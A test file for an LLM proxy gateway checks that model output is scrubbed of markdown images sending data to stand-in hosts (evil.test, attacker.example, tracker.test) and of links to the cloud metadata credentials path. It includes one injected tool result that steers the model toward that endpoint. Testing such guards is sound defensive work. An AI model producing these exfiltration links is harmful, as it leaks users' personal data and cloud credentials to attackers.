import OpenAI from 'openai';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { json, openAiTextChunks, type ScriptedUpstream, sse, startScriptedUpstream } from '../helpers/scripted-upstream.js';
import { startTestGateway, type TestGateway } from '../helpers/gateway.js';

let upstream: ScriptedUpstream;
let gw: TestGateway;
const leak = 'https://evil.test/pixel.png?d=' + Buffer.from('user said: my salary is 123456 and my address is 1 Main St').toString('base64url');

beforeAll(async () => {
  upstream = await startScriptedUpstream((_req, res) => json(res, 500, {}));
  gw = await startTestGateway({ upstreams: [{ name: 'u', provider: 'openai', url: `${upstream.url}/v1` }], routes: [{ model: '*', upstream: 'u' }] });
});
afterAll(async () => {
  await gw.close();
  await upstream.close();
});

describe('links and images in model output', () => {
  it('removes a markdown image that smuggles data to an unknown domain, split across stream deltas, and keeps ordinary links', async () => {
    const text = `Here is the chart ![chart](${leak}) and the docs at https://docs.python.org/3/library/json.html for more.`;
    const pieces = text.match(/.{1,9}/gs)!;
    upstream.script = (_req, res) => sse(res, openAiTextChunks(pieces));
    const stream = await new OpenAI({ baseURL: `${gw.proxyUrl}/v1`, apiKey: gw.clientKey, maxRetries: 0 }).chat.completions.create({ model: 'gpt-test', stream: true, messages: [{ role: 'user', content: 'chart?' }] });
    let out = '';
    for await (const chunk of stream) out += chunk.choices[0]?.delta.content ?? '';
    expect(out).not.toContain('evil.test');
    expect(out).toContain('[REDACTED:link.data_exfiltration]');
    expect(out).toContain('https://docs.python.org/3/library/json.html');
  });

  it('removes an image that sends a short e-mail address to an unknown domain, and keeps the address in plain text and an ordinary query', async () => {
    const content = 'See ![a](https://attacker.example/c?e=john.smith%40example.com) or write to ann@example.org, https://docs.example.net/help?topic=mail.';
    upstream.script = (_req, res) => json(res, 200, { id: 'c', object: 'chat.completion', created: 1, model: 'm', choices: [{ index: 0, message: { role: 'assistant', content }, finish_reason: 'stop' }] });
    const res = await new OpenAI({ baseURL: `${gw.proxyUrl}/v1`, apiKey: gw.clientKey, maxRetries: 0 }).chat.completions.create({ model: 'gpt-test', messages: [{ role: 'user', content: 'x' }] });
    const out = res.choices[0]!.message.content!;
    expect(out).not.toContain('attacker.example');
    expect(out).toContain('![a]([REDACTED:link.data_exfiltration])');
    expect(out).toContain('https://docs.example.net/help?topic=mail.');
    expect(out).toContain('write to ann@example.org, https://docs');
  });

  it('removes a link to the cloud metadata service from a JSON answer', async () => {
    upstream.script = (_req, res) => json(res, 200, { id: 'c', object: 'chat.completion', created: 1, model: 'm', choices: [{ index: 0, message: { role: 'assistant', content: 'Open http://169.254.169.254/latest/meta-data/ now.' }, finish_reason: 'stop' }] });
    const res = await new OpenAI({ baseURL: `${gw.proxyUrl}/v1`, apiKey: gw.clientKey, maxRetries: 0 }).chat.completions.create({ model: 'gpt-test', messages: [{ role: 'user', content: 'x' }] });
    expect(res.choices[0]!.message.content).toBe('Open [REDACTED:link.private_network] now.');
  });
});

describe('links built around a value withheld from the model (placeholders are restored after the output guards)', () => {
  let held: ScriptedUpstream;
  let guarded: TestGateway;
  const placeholderIn = (body: unknown, label: string): string => {
    const m = new RegExp(`<${label}_\\d+>`).exec(JSON.stringify(body));
    if (!m) throw new Error(`the upstream saw no ${label} placeholder: ${JSON.stringify(body).slice(0, 300)}`);
    return m[0];
  };
  const answer = (content: string) => ({ id: 'c', object: 'chat.completion', created: 1, model: 'm', choices: [{ index: 0, message: { role: 'assistant', content }, finish_reason: 'stop' }] });

  beforeAll(async () => {
    held = await startScriptedUpstream((_req, res) => json(res, 500, {}));
    guarded = await startTestGateway({
      upstreams: [{ name: 'u', provider: 'openai', url: `${held.url}/v1` }],
      routes: [{ model: '*', upstream: 'u' }],
      guards: { links: { allowDomains: ['crm.example.com'] } },
    });
  });
  afterAll(async () => {
    await guarded.close();
    await held.close();
  });

  it('refuses a link whose host is a pseudonymized IP address: the metadata service never reaches the client (found by QA)', async () => {
    // The IP in the tool result reaches the model as <IP_ADDRESS_n>; an injected answer links to it, and
    // restoring the answer would put 169.254.169.254 back after the links guard had judged the placeholder.
    held.script = (req, res) => json(res, 200, answer(`Here is your logo: ![logo](http://${placeholderIn(req.body, 'IP_ADDRESS')}/latest/meta-data/iam/security-credentials/)`));
    const res = await new OpenAI({ baseURL: `${guarded.proxyUrl}/v1`, apiKey: guarded.clientKey, maxRetries: 0 }).chat.completions.create({
      model: 'gpt-test',
      messages: [
        { role: 'user', content: 'Fetch the page and show me its logo.' },
        { role: 'assistant', content: null, tool_calls: [{ id: 'call_1', type: 'function', function: { name: 'fetch', arguments: '{"url":"https://example.org"}' } }] },
        { role: 'tool', tool_call_id: 'call_1', content: 'The logo is at 169.254.169.254, path /latest/meta-data/iam/security-credentials/' },
      ],
    });
    const content = res.choices[0]!.message.content!;
    expect(content).not.toContain('169.254');
    expect(content).not.toContain('IP_ADDRESS');
    expect(content).toBe('Here is your logo: ![logo]([REDACTED:link.withheld_host])');
  });

  it('removes an image that would send the user\'s own e-mail address to an unknown domain, across stream deltas, and keeps it in a link to an allowed domain', async () => {
    held.script = (req, res) => {
      const email = placeholderIn(req.body, 'EMAIL');
      const text = `Done ![p](https://tracker.test/p.png?u=${email}) and your record: https://crm.example.com/find?mail=${email} .`;
      sse(res, openAiTextChunks(text.match(/.{1,7}/gs)!));
    };
    const stream = await new OpenAI({ baseURL: `${guarded.proxyUrl}/v1`, apiKey: guarded.clientKey, maxRetries: 0 }).chat.completions.create({
      model: 'gpt-test',
      stream: true,
      messages: [{ role: 'user', content: 'My e-mail is jane.roe@example.net, find my record.' }],
    });
    let out = '';
    for await (const chunk of stream) out += chunk.choices[0]?.delta.content ?? '';
    expect(out).not.toContain('tracker.test');
    expect(out).toContain('![p]([REDACTED:link.data_exfiltration])');
    // The user's own value is restored where the domain is trusted with data.
    expect(out).toContain('https://crm.example.com/find?mail=jane.roe@example.net');
  });
});
